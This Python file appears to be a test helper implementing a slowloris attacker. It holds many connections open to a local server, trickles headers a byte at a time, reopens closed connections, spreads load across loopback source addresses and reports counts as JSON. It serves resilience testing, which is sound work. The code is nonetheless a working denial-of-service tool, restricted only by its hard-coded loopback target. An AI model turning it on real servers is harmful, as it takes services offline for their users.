"""A slowloris attacker for the server tests: it keeps `count` connections open to a server,
each sending a request line and then headers a byte at a time, never the blank line that ends
them, and opens a new one for every connection the server closes (as the attack tool does).

Run as a process of its own (`python slowloris.py PORT COUNT [SOURCE...]`), so that the client
a test times shares no interpreter with it: it prints `ready N` once N connections are open,
attacks until its stdin closes, then prints what it saw as one JSON line."""

from __future__ import annotations

import errno
import json
import resource
import socket
import sys
import threading
from dataclasses import dataclass, field

__all__ = ["Slowloris", "raise_open_files_limit"]

_START = b"GET /api/runs HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n"
_TRICKLE = b"X-Keep-Going: yes\r\n"


def raise_open_files_limit(needed: int) -> None:
    """Raise this process's soft open-files limit so `needed` sockets fit (to the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < needed:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(needed, hard), hard))


@dataclass
class _Conn:
    sock: socket.socket
    sent: int = 0


@dataclass
class Slowloris:
    """Connections to `port` on 127.0.0.1 from `sources` loopback addresses in turn (Linux
    routes all of 127.0.0.0/8 to loopback), one byte more on each every `interval` seconds."""

    port: int
    count: int
    sources: tuple[str, ...] = ("127.0.0.1",)
    interval: float = 1.0
    opened: int = 0
    closed_by_server: int = 0
    connect_failures: int = 0
    _conns: list[_Conn] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> None:
        raise_open_files_limit(self.count + 256)
        for i in range(self.count):
            self._conns.append(self._connect(i))
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(30)
        for conn in self._conns:
            conn.sock.close()

    def open_now(self) -> int:
        return sum(1 for c in self._conns if c.sock.fileno() >= 0)

    def _connect(self, i: int) -> _Conn:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        source = self.sources[i % len(self.sources)]
        try:
            if source != "127.0.0.1":
                sock.bind((source, 0))
            sock.settimeout(5)
            sock.connect(("127.0.0.1", self.port))
            sock.sendall(_START)
            sock.setblocking(False)
            self.opened += 1
        except OSError:
            self.connect_failures += 1
            sock.close()
        return _Conn(sock)

    def _alive(self, conn: _Conn) -> bool:
        """Still open on the server's side: no EOF or reset waiting, and one byte more sent."""
        if conn.sock.fileno() < 0:
            return False
        try:
            if conn.sock.recv(4096) == b"":
                return False  # the server closed it (or answered and closed)
        except BlockingIOError:
            pass
        except OSError:
            return False
        byte = _TRICKLE[conn.sent % len(_TRICKLE) : conn.sent % len(_TRICKLE) + 1]
        try:
            conn.sock.send(byte)
        except OSError as exc:
            return exc.errno in (errno.EAGAIN, errno.EWOULDBLOCK)
        conn.sent += 1
        return True

    def _run(self) -> None:
        while not self._stop.wait(self.interval):
            for i, conn in enumerate(self._conns):
                if self._stop.is_set():
                    return
                if not self._alive(conn):
                    if conn.sock.fileno() >= 0:
                        self.closed_by_server += 1
                    conn.sock.close()
                    self._conns[i] = self._connect(i)


def main(argv: list[str]) -> None:
    port, count, *sources = argv
    attack = Slowloris(int(port), int(count), tuple(sources) or ("127.0.0.1",))
    attack.start()
    print(f"ready {attack.opened}", flush=True)
    sys.stdin.read()  # until the test closes it
    open_at_end = attack.open_now()
    attack.stop()
    print(
        json.dumps(
            {
                "opened": attack.opened,
                "closed_by_server": attack.closed_by_server,
                "connect_failures": attack.connect_failures,
                "open_at_end": open_at_end,
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main(sys.argv[1:])
